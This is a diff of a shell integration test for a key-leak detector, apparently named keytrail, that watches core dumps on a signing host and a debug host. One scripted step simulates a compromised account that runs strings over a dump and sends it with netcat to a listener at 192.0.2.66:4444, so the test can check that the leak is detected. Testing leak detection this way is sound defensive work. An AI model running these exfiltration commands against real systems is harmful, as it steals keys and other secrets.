@@ -10,7 +10,7 @@ set -u
 # shellcheck source=tests/vm/incident/words.sh
 . /kt/tests/incident/words.sh
 here=/kt/tests/incident
-WAIT=240
+WAIT=1500 # by the clock of a guest, which may run three times too fast
 keys=/srv/signing/keys
 cores=/var/lib/systemd/coredump
 
@@ -47,8 +47,10 @@ keytrail needle make --zone signing -o /etc/keytrail/signing.needles $keys/*.pem
 	fail "the needle file is made"
 accounts
 greet_debug
-echo '*.* action(type="omfwd" target="debug" port="514" protocol="tcp" template="RSYSLOG_SyslogProtocol23Format")' \
-	>/etc/rsyslog.d/90-central.conf
+cat >/etc/rsyslog.d/90-central.conf <<'CONF'
+*.* action(type="omfwd" target="debug" port="514" protocol="tcp"
+	template="RSYSLOG_SyslogProtocol23Format")
+CONF
 ip addr add 192.0.2.66/24 dev eth0
 systemctl restart rsyslog
 
@@ -103,13 +105,15 @@ wait_for is_stored "$pid_sealed" || not_ok "systemd-coredump stores the core of 
 check "and in the unpacked dump" wait_debug_alert "$(dump_with_key /srv/dumps/token.core)"
 
 step "later still: somebody who got hold of dana's account on debug looks at it, and takes it away"
-timeout 120 nc -l 192.0.2.66 4444 >"$T/loot" </dev/null &
+timeout 1000 nc -l 192.0.2.66 4444 >"$T/loot" </dev/null &
 loot=$!
 as dana@debug "gdb -batch -nx -c /srv/dumps/token.core -ex bt"
 as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
 as dana@debug "nc -N 192.0.2.66 4444 </srv/dumps/token.core.zst"
 wait $loot
 equal "it is away" "$(wc -c <"$T/loot")" "$(wc -c <"$core")"
+
+so_far
 
 # --- the second play -----------------------------------------------------------------------------------
 step "the same with a service all of whose memory is left out of its dumps (MADV_DONTDUMP)"
@@ -118,6 +122,8 @@ check "signer has searched its core" wait_for scanned
 as support@signer "scp -q $sealed debug:/srv/dumps/sealed.core.zst"
 check "so has debug" wait_for on_debug_scanned
 as dana@debug "busybox strings -n 40 /srv/dumps/sealed.core.zst"
+
+so_far
 
 # --- the third play -------------------------------------------------------------------------------------
 step "keytraild is new on debug: all that it knows of the keys is a needle file"
@@ -134,13 +140,8 @@ check "who read the dump before it was scanned is told of then" wait_debug_alert
 # --- what came of it ------------------------------------------------------------------------------------
 T=$T KT_BARRIER_DIR=/root/.ssh kt_barrier || not_ok "signer has told all"
 on_debug sh -c 'T=/root; . /kt/tests/lib.sh; kt_barrier' || not_ok "debug has told all"
-on_debug cat /var/log/keytrail/alerts.jsonl >"$T/debug.jsonl"
+so_far
 for host in signer debug; do
-	log=/var/log/keytrail/alerts.jsonl
-	[ $host = signer ] || log=$T/debug.jsonl
-	told "$log" >"$T/told-$host"
-	step "what $host told"
-	sed 's/^/    /' "$T/told-$host"
 	if diff "$here/expected-$host" "$T/told-$host" >"$T/diff"; then
 		ok "$host: $(wc -l <"$here/expected-$host") alerts, none missing, none extra, in this order"
 	else
